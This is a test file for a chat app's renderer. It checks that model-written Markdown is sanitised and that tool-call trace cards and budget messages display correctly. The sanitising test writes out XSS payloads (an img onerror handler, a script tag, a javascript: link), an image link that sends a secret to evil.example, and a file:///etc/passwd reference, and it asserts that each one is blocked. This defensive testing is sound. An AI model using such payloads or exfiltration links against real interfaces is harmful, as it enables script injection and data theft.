import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from '../../../src/renderer/components/markdown';
import { AssistantMessage } from '../../../src/renderer/features/chat/message-view';
import { appStore } from '../../../src/renderer/state/store';

describe('renderer components (static render)', () => {
  // Server rendering reads the store's initial state: English.
  it('renders in the initial locale', () => {
    expect(appStore.getInitialState().locale).toBe('en');
  });

  it('model Markdown never becomes HTML: no raw tags, no script links, no image loaded', () => {
    const html = renderToStaticMarkup(
      <Markdown
        text={
          'Hi <img src=x onerror=alert(1)> <script>alert(2)</script>\n\n' +
          '[click](javascript:alert(3)) [ok](https://example.com)\n\n' +
          '![secret](https://evil.example/p.png?d=SECRET) ![plain](http://evil.example/p.png) ![local](file:///etc/passwd)'
        }
      />,
    );
    expect(html).not.toMatch(/<img|<script|href="javascript|(?:src|href)="file:/i);
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(html).toContain(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow"',
    );
    expect(html).toContain('Load image from evil.example');
    expect(html).toContain('Image not loaded');
  });

  it('an assistant message shows one trace card per call with name and status, the meter and the stop reason', () => {
    const html = renderToStaticMarkup(
      <AssistantMessage
        status="complete"
        parts={[
          { kind: 'text', text: 'Looking.' },
          {
            kind: 'tool-call',
            toolCallId: 'a',
            name: 'web_fetch',
            arguments: { url: 'https://a' },
          },
          {
            kind: 'tool-result',
            toolCallId: 'a',
            name: 'web_fetch',
            status: 'ok',
            output: 'page',
            durationMs: 12,
          },
          {
            kind: 'tool-call',
            toolCallId: 'b',
            name: 'web_fetch',
            arguments: { url: 'https://b' },
          },
          {
            kind: 'tool-result',
            toolCallId: 'b',
            name: 'web_fetch',
            status: 'budget',
            output: 'no',
            durationMs: 0,
          },
        ]}
        budget={{
          type: 'budget-update',
          turnId: 't',
          perTool: { web_fetch: { used: 2, limit: 8 } },
          total: { used: 2, limit: 48 },
          rounds: { used: 3, limit: 20 },
        }}
        stopReason="tool_budget_exceeded"
        error={null}
      />,
    );
    expect(html.match(/data-testid="tool-trace"/g)).toHaveLength(2);
    expect(html).toContain('data-tool-name="web_fetch" data-status="ok"');
    expect(html).toContain('data-tool-name="web_fetch" data-status="skipped"');
    expect(html).toContain('<span class="tool-status">over budget</span>');
    // Durations read in seconds (the shared formatter): 12 ms is under a tenth of a second.
    expect(html).toContain('data-testid="tool-duration">&lt; 0.1 s</span>');
    expect(html).toContain('>web_fetch 2/8 · total 2/48<');
    expect(html).toContain('The tool budget ran out, so the answer uses the results so far.');
  });
});
